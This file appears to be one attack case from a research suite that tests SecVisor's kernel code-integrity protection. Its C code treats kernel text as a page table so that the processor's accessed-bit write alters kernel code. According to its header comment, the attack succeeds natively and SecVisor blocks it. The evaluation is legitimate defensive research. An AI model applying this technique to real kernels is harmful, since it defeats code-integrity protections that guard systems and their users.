// Row 6. Kernel text as a page table: where its bytes happen to be an entry, the processor sets its accessed bit, that is, writes to text.
// Source: page-table walks as a write primitive of the processor's own.
// Ends: natively succeeded; beneath SecVisor refused, page-table.
#include "common/attack.h"

#define ACCESSED 0x20ull

// Whether it is a present entry of the kernel's for a frame where no memory is, not used yet.
static int entry_like(u64 bytes)
{
	u64 frame = bytes & FRAME;

	return (bytes & (PRESENT | USER | ACCESSED)) == PRESENT && frame >> 36 && !(frame >> 40);
}

ATTACK("text-as-table")
{
	// A place in the modules' range that nothing uses.
	u64 free = 0xffffffffbfe00000, entry = entry_at(free, 21), page = symbol(VICTIM) & ~(PAGE - 1), words[8], after;
	unsigned i = 0;

	if (kread64(entry) & PRESENT)
		failed("something is there");
	for (u64 at = page; at < page + PAGE; at += sizeof(words)) {
		kread(at, words, sizeof(words));
		for (i = 0; i < 8 && !entry_like(words[i]); i++)
			;
		if (i == 8)
			continue;
		at += 8 * i;
		keep_bytes(at, 8);
		poke(entry, physical(page) | KERNEL_DATA);
		flush(0);
		// The page is run before, so that it is approved, and after.
		victim();
		about_to("read by way of kernel text as a page table");
		kread64(free + (at - page) / 8 * PAGE);
		victim();
		after = kread64(at);
		if (after == (words[i] | ACCESSED))
			succeeded("text at %#llx was %#llx and became %#llx", (unsigned long long)at,
				  (unsigned long long)words[i], (unsigned long long)after);
		failed("text at %#llx was %#llx and is %#llx", (unsigned long long)at, (unsigned long long)words[i],
		       (unsigned long long)after);
	}
	failed("no bytes there look like an entry");
}
